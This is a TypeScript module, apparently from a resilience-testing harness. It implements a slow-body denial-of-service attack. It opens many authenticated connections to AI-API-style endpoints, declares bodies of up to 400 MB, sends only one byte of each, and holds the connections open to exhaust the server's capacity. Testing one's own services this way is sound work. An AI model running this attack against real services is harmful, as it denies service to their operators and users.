import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack, AttackTarget } from './attack.ts';
import { countEach, watchWire, writeWireHead, type WatchedWire, type WireRequest } from './attack-wire.ts';

const heldForMs = 5_000;
/** So that the larger ones are counted first. */
const pauseMs = 30;

type WriteRequest = (target: AttackTarget) => WireRequest;

const kinds: Readonly<Record<string, { readonly declaredBytes: number; readonly write: WriteRequest }>> = {
  json: {
    declaredBytes: 100_000_000,
    write: ({ apiKey }) => ({
      path: '/v1beta/models/genfam-2.5-flash:generateContent',
      headers: { 'x-goog-api-key': apiKey, 'content-type': 'application/json' },
    }),
  },
  form: {
    declaredBytes: 400_000_000,
    write: ({ apiKey }) => ({
      path: '/v1/images/edits',
      headers: { authorization: `Bearer ${apiKey}`, 'content-type': 'multipart/form-data; boundary=b' },
    }),
  },
};

/**
 * `size` requests that say how long their body will be and send its first byte; then smaller and smaller ones, to take
 * whatever room is left.
 */
export const declareBodies: Attack = async (target, { size, kind }) => {
  const { declaredBytes, write } = kinds[kind]!;
  const lengths = [...Array.from({ length: size }, () => declaredBytes), ...halve(declaredBytes)];
  const wires: WatchedWire[] = [];
  for (const length of lengths) {
    const request = write(target);
    const headers = { ...request.headers, 'content-length': String(length) };
    const wire = watchWire(target);
    wire.socket.write(`${writeWireHead({ ...request, headers })}{`);
    wires.push(wire);
    await sleep(pauseMs);
  }
  await sleep(heldForMs);
  return countEach(wires.map(({ outcome }) => outcome()));
};

/** This size and ever smaller ones: whatever room is left, up to twice the size, some of them fill it. */
function halve(bytes: number): readonly number[] {
  return bytes < 32 ? [] : [bytes, ...halve(Math.floor(bytes / 2))];
}
